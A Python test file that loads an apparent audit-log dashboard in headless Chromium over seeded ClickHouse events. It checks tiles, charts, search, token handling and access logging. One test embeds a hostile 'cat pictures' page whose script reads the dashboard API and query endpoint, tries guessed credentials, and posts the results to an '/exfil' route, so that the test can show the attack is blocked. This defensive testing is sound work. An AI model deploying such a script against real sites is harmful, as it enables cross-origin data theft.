"""The dashboard in a real browser: headless Chromium loads it over a store holding known events."""

from __future__ import annotations

import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from clickhouse_connect.driver.client import Client

from mcp_audit.embedded.broker import free_port
from readside.dashboard.app import build_app
from readside.session import ReadSide
from readside.tokens import Tokens
from tests.conftest import serving
from tests.readside.conftest import LIMITS, access_rows, sink_settings
from tests.readside.dashboard.store import create_tables, insert_alert, insert_event

pytestmark = [pytest.mark.clickhouse, pytest.mark.slow]


@pytest.fixture
def known_store(clickhouse: Client) -> Client:
    create_tables(clickhouse)
    now = datetime.now(UTC) - timedelta(minutes=5)
    for i in range(6):
        insert_event(
            clickhouse,
            now - timedelta(minutes=i),
            user="alice",
            tool="read_file",
            status="SUCCESS",
            duration_ms=2.0 + i,
            risk_score=10,
            risk_level="LOW",
        )
    for i in range(3):
        insert_event(
            clickhouse,
            now - timedelta(minutes=i),
            user="mallory",
            tool="delete_records",
            status="ERROR",
            duration_ms=40.0,
            risk_score=90,
            risk_level="CRITICAL",
        )
    insert_alert(clickhouse, now, detector="error_burst", summary="mallory: 3 errors in 1 minute")
    return clickhouse


@pytest.fixture
def side(known_store: Client, clickhouse_url: str) -> Iterator[ReadSide]:
    made = ReadSide(known_store, sink_settings(known_store, clickhouse_url), LIMITS)
    try:
        yield made
    finally:
        made.close()


@pytest.fixture
def dashboard_url(side: ReadSide, tokens: Tokens) -> Iterator[str]:
    """The dashboard's link as ``up`` prints it: the token in the fragment."""
    port = free_port()
    with serving(build_app(side, tokens, port), port) as url:
        yield f"{url}#token={tokens.ensure('alice')}"


def _wait_loaded(browser: Any) -> None:
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        if browser.execute_script("return document.body.dataset.loaded === 'true'"):
            return
        time.sleep(0.1)
    raise AssertionError("the dashboard never finished loading")


def test_dashboard_shows_the_stored_events(browser: Any, dashboard_url: str) -> None:
    browser.get(dashboard_url)
    _wait_loaded(browser)
    js = browser.execute_script

    tiles = js(
        "return Object.fromEntries([...document.querySelectorAll('.tile')]"
        ".map(t => [t.dataset.name, t.querySelector('b').textContent]))"
    )
    assert tiles == {"calls": "9", "failures": "3", "high-risk": "3", "users": "2", "tools": "2"}

    by_status = js(
        "const s = {}; for (const r of document.querySelectorAll('#calls-chart rect'))"
        " s[r.dataset.key] = (s[r.dataset.key] || 0) + Number(r.dataset.value); return s;"
    )
    assert by_status == {"SUCCESS": 6, "ERROR": 3}

    risk = js(
        "return [...document.querySelectorAll('#risk-chart rect')]"
        ".map(r => [r.dataset.key, Number(r.dataset.value)])"
    )
    assert risk == [["LOW", 6], ["CRITICAL", 3]]

    tools = js(
        "return [...document.querySelectorAll('#tools tbody tr')]"
        ".map(tr => [...tr.children].slice(0, 3).map(td => td.textContent))"
    )
    assert tools == [["read_file", "6", "0.0%"], ["delete_records", "3", "100.0%"]]

    top_user = js("return document.querySelector('#users tbody tr td').textContent")
    assert top_user == "mallory"
    alert_text = js("return document.querySelector('#alerts li').textContent")
    assert "error_burst" in alert_text and "mallory: 3 errors" in alert_text
    tools_listed = js("return [...document.querySelectorAll('#events tbody tr')]"
                      ".map(tr => tr.children[4].textContent)")  # fmt: skip
    # the nine calls, and the page load's own AUDIT_ACCESS record (tool: the action)
    assert sorted(tools_listed) == ["dashboard-page"] + ["delete_records"] * 3 + ["read_file"] * 6

    errors = [e["message"] for e in browser.get_log("browser") if e["level"] == "SEVERE"]
    assert errors == []


def test_search_filters_by_user(browser: Any, dashboard_url: str) -> None:
    browser.get(dashboard_url)
    _wait_loaded(browser)
    browser.find_element("name", "user").send_keys("mallory")
    browser.find_element("css selector", "#search button").click()
    deadline = time.monotonic() + 10
    users: list[str] = []
    while time.monotonic() < deadline:
        users = browser.execute_script(
            "return [...document.querySelectorAll('#events tbody tr')]"
            ".map(tr => tr.children[2].textContent)"
        )
        if users and set(users) == {"mallory"}:
            break
        time.sleep(0.1)
    assert users == ["mallory"] * 3


def test_a_page_load_is_one_recorded_access_by_the_tokens_operator(
    browser: Any, dashboard_url: str, known_store: Client
) -> None:
    browser.get(dashboard_url)
    _wait_loaded(browser)
    assert "#token" not in browser.current_url  # the token leaves the address bar

    actions = [r["attributes"]["action"] for r in access_rows(known_store)]  # type: ignore[index]
    assert actions.count("dashboard-page") == 1
    assert {r["attributes"]["operator"] for r in access_rows(known_store)} == {"alice"}  # type: ignore[index]


def test_without_the_token_the_dashboard_shows_nothing(
    browser: Any, dashboard_url: str, known_store: Client
) -> None:
    browser.get(dashboard_url.split("#")[0])
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        if browser.execute_script("return document.body.dataset.unauthenticated === 'true'"):
            break
        time.sleep(0.1)
    assert browser.execute_script("return document.querySelectorAll('.tile').length") == 0
    assert {r["status"] for r in access_rows(known_store)} == {"DENIED"}


HOSTILE = """<!doctype html><title>cat pictures</title><script>
const report = (what, text) => fetch("/exfil", {method: "POST", body: what + ":" + text});
(async () => {
  for (const [what, url, init] of [
    ["page", "DASHBOARD/api/page?hours=24", {credentials: "include"}],
    ["events", "DASHBOARD/api/events?hours=24", {}],
    ["query", "ENDPOINT/", {method: "POST", body: "SELECT * FROM audit_events FORMAT JSON",
                            headers: {"Content-Type": "text/plain"}}],
    ["query-basic", "ENDPOINT/", {method: "POST", body: "SELECT * FROM audit_events FORMAT JSON",
                                  headers: {"Authorization": "Basic " + btoa("alice:guess")}}],
  ]) {
    try { const r = await fetch(url, init); report(what, r.status + " " + await r.text()); }
    catch (e) { report(what, "blocked " + e); }
  }
  try {  // no-cors: the request is sent blind; the endpoint must refuse it anyway
    await fetch("ENDPOINT/", {method: "POST", mode: "no-cors",
                              body: "SELECT * FROM audit_events FORMAT JSON"});
  } catch (e) {}
  report("done", "");
})();
</script>"""


def test_a_hostile_page_in_the_operators_browser_reads_nothing(
    browser: Any, dashboard_url: str, side: ReadSide, tokens: Tokens, known_store: Client
) -> None:
    """The operator has the dashboard open (token in that origin's storage), then visits
    a page on another origin that tries the dashboard's API and the query endpoint."""
    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import HTMLResponse, Response
    from starlette.routing import Route

    from readside.endpoint import QueryEndpoint

    browser.get(dashboard_url)
    _wait_loaded(browser)
    endpoint = QueryEndpoint(side, tokens, LIMITS, 0).start()
    received: list[str] = []

    async def exfil(request: Request) -> Response:
        received.append((await request.body()).decode())
        return Response("ok")

    page = HOSTILE.replace("DASHBOARD/", dashboard_url.split("#")[0]).replace(
        "ENDPOINT/", f"http://127.0.0.1:{endpoint.port}/"
    )
    hostile = Starlette(routes=[Route("/", lambda _: HTMLResponse(page)),
                                Route("/exfil", exfil, methods=["POST"])])  # fmt: skip
    try:
        with serving(hostile) as url:
            browser.get(url.replace("127.0.0.1", "localhost"))  # another origin
            deadline = time.monotonic() + 20
            while not any(r.startswith("done") for r in received) and time.monotonic() < deadline:
                time.sleep(0.1)
    finally:
        endpoint.stop()
    assert any(r.startswith("done") for r in received)
    leaked = [r for r in received if "read_file" in r or "mallory" in r or "files" in r]
    assert leaked == []
    endpoint_accesses = [
        r for r in access_rows(known_store) if r["attributes"]["via"] == "endpoint"
    ]  # type: ignore[index]
    assert endpoint_accesses and {r["status"] for r in endpoint_accesses} == {"DENIED"}
